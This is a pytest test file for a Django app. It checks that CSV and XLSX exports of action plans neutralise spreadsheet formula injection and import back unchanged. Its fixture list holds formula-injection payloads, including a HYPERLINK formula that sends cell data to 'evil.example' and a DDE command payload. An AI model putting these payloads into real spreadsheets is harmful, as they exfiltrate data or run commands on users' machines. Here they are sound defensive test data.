"""Exports are safe to open: no CSV or XLSX cell starts with a character a
spreadsheet program would read as a formula, and importing an export gives the same plan back."""

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from actionplans.models import ActionPlan
from actionplans.spreadsheet import FORMULA_TRIGGERS, neutralise, unneutralise
from tests.actionplans.factories import ActionFactory, ActionPlanFactory, RecommendationFactory, SectionFactory

from .test_export import plan_shape

pytestmark = pytest.mark.django_db

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rReturned",
    "'=already quoted",
    "''+twice",
    "'plain quote",
    "Ordinary text",
]


@pytest.fixture
def nasty_plan():
    plan = ActionPlanFactory(title="Nasty", published=True)
    section = SectionFactory(plan=plan, title="=1+1")
    for n, value in enumerate(NASTY, start=1):
        rec = RecommendationFactory(
            section=section, plan=plan, code=f"A{n}", category="Priority", wording=value, order=n
        )
        ActionFactory(
            recommendation=rec,
            number=f"A{n}.1",
            activity=value,
            outcome=value,
            lead=value[:300],
            progress=value,
            timeline="31/03/15",
            order=1,
        )
    return plan


def test_neutralise_and_unneutralise_are_inverse():
    for value in NASTY + ["", "-", "'", "''", "'-"]:
        assert unneutralise(neutralise(value)) == value
        assert not neutralise(value).startswith(FORMULA_TRIGGERS)


def csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def test_every_csv_and_xlsx_cell_is_neutralised(client, nasty_plan):
    response = client.get(f"/action-plans/{nasty_plan.pk}/export.csv")
    assert response.status_code == 200
    cells = csv_cells(response.content)
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]

    response = client.get(f"/action-plans/{nasty_plan.pk}/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    values = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in values if c.data_type == "f"]
    assert not [c.value for c in values if str(c.value).startswith(FORMULA_TRIGGERS)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reimporting_a_neutralised_export_gives_the_same_plan(tmp_path, nasty_plan, fmt):
    out = tmp_path / f"export.{fmt}"
    call_command(
        "export_action_plan",
        str(nasty_plan.pk),
        "--format",
        fmt,
        "--output",
        str(out),
        stdout=StringIO(),
        stderr=StringIO(),
    )
    call_command("import_action_plan", str(out), "--title", "Again", stdout=StringIO())
    again = ActionPlan.objects.get(title="Again")

    # The importer strips values (as it always has): compare what survives stripping.
    def stripped(shape):
        return [tuple(v.strip() if isinstance(v, str) else v for v in row) for row in shape]

    assert stripped(plan_shape(again)) == stripped(plan_shape(nasty_plan))
